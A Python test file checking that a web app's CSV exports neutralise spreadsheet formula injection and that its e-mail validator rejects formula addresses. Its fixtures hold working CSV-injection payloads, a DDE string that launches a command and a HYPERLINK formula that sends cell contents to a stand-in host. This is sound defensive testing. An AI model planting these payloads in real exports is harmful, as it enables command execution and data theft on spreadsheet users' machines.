"""SEC-5: every CSV export goes through one writer that neutralises cells a spreadsheet
would run as a formula (= + - @, tab, CR) in every column; the e-mail validator refuses
such an address in the first place."""

from __future__ import annotations

import csv
import datetime as dt
import io

from tests.dbdigest import digest
from tests.security.conftest import post

FORMULA_EMAIL = '=HYPERLINK("http://x.test/"&A1,"c@x.fr")'
FORMULA_SITE = "=cmd|' /C calc'!A0"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for c in row]


def _unsafe(data: bytes) -> list[str]:
    return [c for c in _cells(data) if c.startswith(DANGEROUS)]


def test_sec5_contact_form_refuses_a_formula_address(admin, ids, db_conn):
    from webapp.models import Contact

    before = digest(Contact)
    response = post(admin, "/annuaire/nouveau", {
        "first_name": "Eve", "last_name": "Formule", "email": FORMULA_EMAIL,
        "site_id": str(ids["site_paris"])})
    assert response.status_code == 400
    assert "Adresse e-mail invalide" in response.get_data(as_text=True)
    assert digest(Contact) == before
    for address in ("-x@x.fr", "+x@x.fr", "@x@x.fr", "a b@x.fr", 'a"b@x.fr'):
        response = post(admin, "/annuaire/nouveau", {
            "first_name": "Eve", "last_name": "Formule", "email": address,
            "site_id": str(ids["site_paris"])})
        assert response.status_code == 400, address
    assert digest(Contact) == before
    ok = post(admin, "/annuaire/nouveau", {"first_name": "Eve", "last_name": "Bonne",
                                           "email": "eve.o'neil+tag@exemple-1.fr".replace("'", ""),
                                           "site_id": str(ids["site_paris"])})
    assert ok.status_code == 303


def test_sec5_directory_export_neutralises_every_column(admin, ids, db_conn):
    from webapp.models import Contact, Site

    # Data that reached the database before the validator existed, and a site name.
    site = Site.create(account=Contact.get_by_id(ids["contact_paris"]).account_id,
                       name=FORMULA_SITE, parent=ids["site_paris"])
    Contact.create(account=site.account_id, site=site, first_name="+Eve", last_name="-Nom",
                   email=FORMULA_EMAIL, company="@SUM(A1)", job_title="\tfonction",
                   address="\rrue", phone_work="+33100009999")
    export = admin.client.get("/annuaire/csv/export")
    assert export.status_code == 200
    assert _unsafe(export.data) == []
    cells = _cells(export.data)
    assert "'" + FORMULA_EMAIL in cells and "'" + FORMULA_SITE in cells


def test_sec5_history_and_statistics_exports_are_neutralised(admin, ids, db_conn):
    from webapp.models import Service
    from webapp.models.history import CallRecord

    line = Service.get_by_id(ids["fixed_paris"])
    now = dt.datetime.now(dt.UTC).replace(tzinfo=None) - dt.timedelta(minutes=5)
    for n, peer in enumerate(("+442071234567", "=2+5", "@A1")):
        CallRecord.create(account=line.account_id, service=line, entry_id=f"sec5-{n}",
                          direction="in", peer=peer, status="answered", started_at=now,
                          answered_at=now, ended_at=now + dt.timedelta(seconds=30),
                          duration_s=30)
    history = admin.client.get(f"/services/{line.id}/historique/export.csv")
    assert history.status_code == 200
    assert len(_cells(history.data)) > 7
    assert _unsafe(history.data) == []
    welcome = Service.get_by_id(ids["welcome"])
    stats = admin.client.get(f"/configurer/statistiques/{welcome.id}/export.csv")
    assert stats.status_code == 200
    assert _unsafe(stats.data) == []
    assert "'" + welcome.number in _cells(stats.data)


def test_sec5_no_csv_is_written_outside_the_shared_writer():
    """"Through one shared writer": nothing that runs builds CSV rows with the standard
    library's writers but webapp/services/csv_safe.py, so a new export cannot forget the
    neutralisation."""
    import ast
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for folder in ("webapp", "worker", "engine", "pbx", "deploy"):
        for path in (root / folder).rglob("*.py"):
            if path == root / "webapp/services/csv_safe.py":
                continue
            for node in ast.walk(ast.parse(path.read_text(), str(path))):
                if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                        and isinstance(node.value, ast.Name) and node.value.id == "csv":
                    offenders.append(f"{path.relative_to(root)}:{node.lineno}")
                if isinstance(node, ast.ImportFrom) and node.module == "csv" and any(
                        a.name in ("writer", "DictWriter") for a in node.names):
                    offenders.append(f"{path.relative_to(root)}:{node.lineno}")
    assert offenders == []
